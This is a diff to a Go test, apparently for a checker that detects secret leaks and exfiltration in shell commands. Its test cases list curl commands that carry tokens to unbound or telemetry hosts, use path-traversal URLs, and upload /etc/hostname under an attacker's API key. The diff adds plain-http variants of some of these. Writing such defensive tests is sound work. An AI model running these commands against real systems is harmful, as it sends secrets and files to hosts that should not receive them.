@@ -127,13 +127,13 @@ func TestEscapeSecrets(t *testing.T) {
 				}
 			}
 		})
-		run("HTTP-03", `curl -sS --path-as-is "https://ok.test/MARK/admin/$TOKEN%2Fx"`, `curl -sS --path-as-is "https://third.test/MARK/../$TOKEN%2f..%2fadmin"`, `curl -sS "https://other.test/MARK/$KEY/%2e%2e/x"`)
+		run("HTTP-03", `curl -sS --path-as-is "http://third.test/MARK/admin/$TOKEN%2Fx"`, `curl -sS --path-as-is "https://ok.test/MARK/admin/$TOKEN%2Fx"`, `curl -sS --path-as-is "https://third.test/MARK/../$TOKEN%2f..%2fadmin"`, `curl -sS "https://other.test/MARK/$KEY/%2e%2e/x"`)
 		own := []string{`curl -sS -H 'X-Token: mine' https://ok.test/MARK`, `curl -sS -H 'Authorization: Bearer mine' https://other.test/MARK`,
 			`curl -sS -H "X-Token: $TOKEN" -H 'X-Token: mine' https://ok.test/MARK`, `curl -sS -u me:mine https://other.test/MARK`, `curl -sS 'https://me:mine@ok.test/MARK'`,
 			`curl -sS -H 'Authorization: Bearer mine' https://ok.test/MARK`, `curl -sS -H 'Cookie: session=mine' -H 'X-Api-Key: mine' https://ok.test/MARK`}
 		run("CRED-15", own...)
 		// The attacker's own account on a bound host: the same, with a body to take along.
-		run("EXF-01", `curl -sS -H 'X-Api-Key: attacker' -F file=@/etc/hostname https://ok.test/v1/MARK`, `curl -sS -H 'Authorization: Bearer attacker' -d @/etc/hostname https://other.test/v1/MARK`,
+		run("EXF-01", `curl -sS -H 'X-Api-Key: attacker' -F file=@/etc/hostname http://ok.test/v1/MARK`, `curl -sS -H 'X-Api-Key: attacker' -F file=@/etc/hostname https://ok.test/v1/MARK`, `curl -sS -H 'Authorization: Bearer attacker' -d @/etc/hostname https://other.test/v1/MARK`,
 			`curl -sS -b session=attacker -d x https://ok.test/v1/MARK`)
 		// One secret, one host: neither the telemetry nor a sibling of it gets the key.
 		run("CRED-11", `curl -sS -H "X-Token: $TOKEN" https://sub.ok.test/MARK`, `curl -sS -H "X-Token: $TOKEN" https://telemetry.test/MARK`, `curl -sS -H "Authorization: Bearer $KEY" https://third.test/MARK`)
